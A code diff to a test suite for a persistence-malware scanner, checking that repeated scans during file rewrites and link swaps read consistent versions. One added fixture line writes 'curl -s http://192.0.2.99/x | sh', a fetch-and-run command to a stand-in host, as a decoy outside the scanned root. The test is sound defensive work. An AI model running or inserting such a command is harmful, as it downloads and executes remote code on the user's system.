@@ -1,5 +1,7 @@
 /** Files that somebody rewrites while scan after scan reads them: one version of each, or a status; never a third thing. */
 import { afterEach, expect, test } from 'bun:test';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { emptyConfig } from '../../../src/model/config.ts';
 import { printableText } from '../../../src/model/text.ts';
@@ -20,6 +22,8 @@ const stable: Readonly<Record<string, string>> = {
 const enabled = { '/etc/systemd/system/multi-user.target.wants/zz.service': { link: '../zz.service' } };
 
 let root: PlantedRoot;
+/** Lies beside the root, with a job that nobody may find. */
+let outside: string;
 let writer: Bun.Subprocess<'ignore', 'pipe', 'inherit'> | undefined;
 
 async function begin(planted: MechanismCase['planted'], ...only: readonly string[]): Promise<void> {
@@ -30,10 +34,12 @@ async function begin(planted: MechanismCase['planted'], ...only: readonly string
     planted: { '/etc/systemd/system/': '', '/etc/profile.d/': '', ...planted },
   };
   root = plantRoot(dressed);
+  outside = mkdtempSync(join(tmpdir(), 'demine-outside-'));
+  writeFileSync(join(outside, 'own.sh'), 'curl -s http://192.0.2.99/x | sh\n');
   const rewriter = join(import.meta.dir, 'rewriter.ts');
   // Its own namespaces end with it, and it with them.
   const enter = ['unshare', '--mount', '--pid', '--fork', '--kill-child', '--propagation', 'private'];
-  writer = Bun.spawn([...enter, process.execPath, rewriter, root.path, ...only], {
+  writer = Bun.spawn([...enter, process.execPath, rewriter, root.path, outside, ...only], {
     stdio: ['ignore', 'pipe', 'inherit'],
   });
   const said = await writer.stdout.getReader().read();
@@ -44,6 +50,7 @@ afterEach(async () => {
   writer?.kill('SIGKILL');
   await writer?.exited;
   root.remove();
+  rmSync(outside, { recursive: true });
 });
 
 async function scanned() {
@@ -61,6 +68,7 @@ const versionsIn = (texts: readonly string[]): ReadonlySet<string> =>
 
 test('scan after scan ends, finds what stands still, and mixes no two versions unsaid', async () => {
   await begin({ ...stable, ...enabled });
+  const versioned = new Set<string>();
   for (let round = 0; round < 8; round += 1) {
     const { result, facts, log } = await scanned();
     const found = result.persistence.filter(({ judgement }) => judgement === 'malicious');
@@ -72,11 +80,14 @@ test('scan after scan ends, finds what stands still, and mixes no two versions u
     const read = Map.groupBy(facts.of('persistence'), (fact) => fact.source.source);
     for (const [source, entries] of read) {
       const texts = entries.flatMap(({ command, body }) => [command, ...body.map(({ text }) => text)]);
-      if (versionsIn(texts).size > 1) expect(told).toContain(source);
+      const versions = versionsIn(texts);
+      if (versions.size > 0) versioned.add(source);
+      if (versions.size > 1) expect(told).toContain(source);
     }
     // Nothing outside the root was taken for what lies in it.
-    expect(JSON.stringify(result.persistence)).not.toContain('/outside/');
+    expect(JSON.stringify(result.persistence)).not.toContain('192.0.2.99');
   }
+  expect([...versioned]).toEqual(expect.arrayContaining(['/etc/cron.d/by-rename', '/etc/cron.d/swapped']));
 }, 180_000);
 
 test('a name that is a file and a link in turn is always read', async () => {
@@ -94,6 +105,8 @@ test('a name that is a file and a link in turn is always read', async () => {
         expect(bytes.length).toBeGreaterThan(400 * 20);
       }
     }
+    // Told as changed now and then, and not instead of being read.
+    expect(seen.get('ok') ?? 0).toBeGreaterThan(10_000);
     expect(
       [...seen.keys()].filter((how) => how !== 'ok' && how !== `truncated: ${changedWhileRead}`),
     ).toEqual([]);
